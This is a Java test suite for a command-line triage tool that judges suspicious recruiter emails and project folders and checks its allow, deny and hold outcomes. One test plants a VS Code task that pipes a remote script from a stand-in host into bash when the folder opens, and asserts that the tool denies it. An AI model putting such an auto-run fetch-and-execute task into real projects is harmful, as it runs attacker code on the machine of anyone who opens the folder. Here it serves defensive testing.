package dev.countersign.cli.triage;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.cli.Run;
import dev.countersign.lure.triage.Answer;
import dev.countersign.lure.triage.Part;
import dev.countersign.model.json.Json;
import dev.countersign.model.verdict.Outcome;
import dev.countersign.model.verdict.Verdict;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.AccessDeniedException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** The command, each time with a reader in a process of its own. */
class TriageCommandTest {
  private static final String EXAMPLES = "../examples/";

  @TempDir Path folder;

  @Test
  void theLureIsDeniedInThreeSentencesWithWhatToDo() {
    Run run = Run.of("triage", EXAMPLES + "recruiter.eml");
    assertThat(run.exitCode()).as(run.out()).isEqualTo(4);
    assertThat(run.out()).startsWith("DENY");
    String why = run.out().split("\nWhy\n", -1)[1].split("\n\n", -1)[0];
    assertThat(why.lines().filter(line -> line.startsWith("  ✗ "))).hasSize(3);
    assertThat(run.out()).contains("\nWhat to do\n").doesNotContain("northgate-talent.example");
  }

  @Test
  void theHonestRecruiterIsAllowed() {
    Run run = Run.of("triage", EXAMPLES + "honest-recruiter.eml");
    assertThat(run.exitCode()).as(run.out()).isZero();
    assertThat(run.out()).startsWith("ALLOW");
  }

  @Test
  void pastedTextComesFromStandardInput() {
    Run run = Run.withInput("Shall we have lunch at noon?", "triage", "-");
    assertThat(run.exitCode()).as(run.out()).isZero();
  }

  @Test
  void aFolderIsReadAsAProject() throws IOException {
    Path app = Files.createDirectories(folder.resolve("app/.vscode"));
    Files.writeString(
        app.resolve("tasks.json"),
        """
        {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell",
          "command": "curl -s https://theme.example/a | bash",
          "runOptions": {"runOn": "folderOpen"}}]}
        """);
    Run run = Run.of("triage", "--json", folder.resolve("app").toString());
    assertThat(run.exitCode()).as(run.out()).isEqualTo(4);
    JsonNode answer = Json.parse(run.out(), "The answer");
    assertThat(answer.get("outcome").asString()).isEqualTo("deny");
    assertThat(run.out()).contains(".vscode/tasks.json").contains("theme[.]example");
  }

  @Test
  void linksInAFolderAreSaidAndNotFollowed() throws IOException {
    Path secret = Files.writeString(folder.resolve("secret.js"), "require('child_process')");
    Path app = Files.createDirectories(folder.resolve("app/src"));
    Files.writeString(app.resolve("index.js"), "console.log(1);");
    Files.createSymbolicLink(app.resolve("out.js"), Path.of("../../secret.js"));
    Files.createSymbolicLink(app.resolve("all"), folder.toAbsolutePath());
    Files.createSymbolicLink(app.resolve("in.js"), Path.of("index.js"));
    Path itself = Files.createSymbolicLink(folder.resolve("linked"), app.getParent());
    try (ServerSocketChannel socket = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
      socket.bind(UnixDomainSocketAddress.of(app.resolve("s")));
      Run run = Run.of("triage", "--json", itself.toString());
      assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
      assertThat(run.out())
          .contains(
              "src/out.js -> ../../secret.js",
              "src/all -> " + folder.toAbsolutePath(),
              "src/in.js -> index.js",
              "\"linked/src/s\"")
          .doesNotContain("child_process");
      JsonNode findings = Json.parse(run.out(), "The answer").get("findings");
      assertThat(findings)
          .extracting(one -> one.get("code").asString())
          .contains("link-leaves-folder", "link-in-folder", "neither-file-nor-folder");
    }
    assertThat(secret).exists();
  }

  @Test
  void whatMayNotBeReadInAFolderIsHeld() throws IOException {
    Path app = Files.createDirectories(folder.resolve("app"));
    Files.writeString(app.resolve("index.js"), "console.log(1);");
    LeftOut leftOut = new LeftOut(app, "app");
    leftOut.unreadable(app.resolve("a.js"), new AccessDeniedException("a.js"));
    Answer clean =
        new Answer(
            "a zip archive",
            "app.zip",
            "",
            Verdict.of(List.of()),
            List.of("why"),
            List.of("todo"),
            List.of(),
            List.of(),
            List.of(),
            List.of());
    Answer answer = clean.beside(new Part("left out", "links", leftOut.findings()));
    assertThat(answer.verdict().outcome()).isEqualTo(Outcome.HOLD);
    assertThat(answer.why()).containsExactly("The file app/a.js could not be read.");
    assertThat(answer.todo()).contains("Security reads it by other means.");
    assertThat(clean.beside(new Part("left out", "links", List.of()))).isSameAs(clean);
  }

  @Test
  void whatWasInstalledIsLeftOutOfALargeFolderAndSaid() throws IOException {
    Path app = Files.createDirectories(folder.resolve("app/node_modules/big"));
    try (RandomAccessFile file = new RandomAccessFile(app.resolve("a.bin").toFile(), "rw")) {
      file.setLength(65L << 20);
    }
    Files.writeString(folder.resolve("app/index.js"), "console.log(1);");
    Run run = Run.of("triage", folder.resolve("app").toString());
    assertThat(run.exitCode()).as(run.out() + run.err()).isEqualTo(3);
    assertThat(run.out()).contains("app/node_modules").contains("was not looked into");
    Files.move(app.resolve("a.bin"), folder.resolve("app/own.bin"));
    Run own = Run.of("triage", folder.resolve("app").toString());
    assertThat(own.exitCode()).isEqualTo(2);
    assertThat(own.err()).contains("hand in a part of it");
  }

  @Test
  void aFileOfTwoGibibytesIsAnswered() throws IOException {
    Path large = folder.resolve("large.bin");
    try (RandomAccessFile file = new RandomAccessFile(large.toFile(), "rw")) {
      file.setLength(2L << 30);
    }
    Run run = Run.of("triage", large.toString());
    assertThat(run.exitCode()).as(run.out() + run.err()).isIn(0, 3);
    assertThat(run.out()).contains("large.bin");
  }

  @Test
  void theCompanyAndOwnRulesAreRead() throws IOException {
    Path company = folder.resolve("company.json");
    Files.writeString(company, "{\"domains\": [\"lindenpay.example\"]}");
    Run run = Run.of("triage", "--company", company.toString(), EXAMPLES + "honest-recruiter.eml");
    assertThat(run.exitCode()).as(run.out()).isZero();
  }

  @Test
  void aMistakeInTheCompanyIsSaid() throws IOException {
    Path company = folder.resolve("company.json");
    Files.writeString(company, "{\"domain\": []}");
    Run run = Run.of("triage", "--company", company.toString(), EXAMPLES + "honest-recruiter.eml");
    assertThat(run.exitCode()).isEqualTo(2);
    assertThat(run.err()).contains("\"domain\"");
  }

  @Test
  void aMistakeInTheRulesIsSaid() throws IOException {
    Path rules = folder.resolve("rules.yaml");
    Files.writeString(rules, "rules: 7");
    Run run = Run.of("triage", "--rules", rules.toString(), EXAMPLES + "honest-recruiter.eml");
    assertThat(run.exitCode()).isEqualTo(2);
    assertThat(run.err()).contains("rules.yaml");
  }

  @Test
  void whatIsNotThereIsSaid() {
    Run run = Run.of("triage", folder.resolve("nothing.eml").toString());
    assertThat(run.exitCode()).isEqualTo(2);
    assertThat(run.err()).contains("nothing.eml does not exist");
  }
}
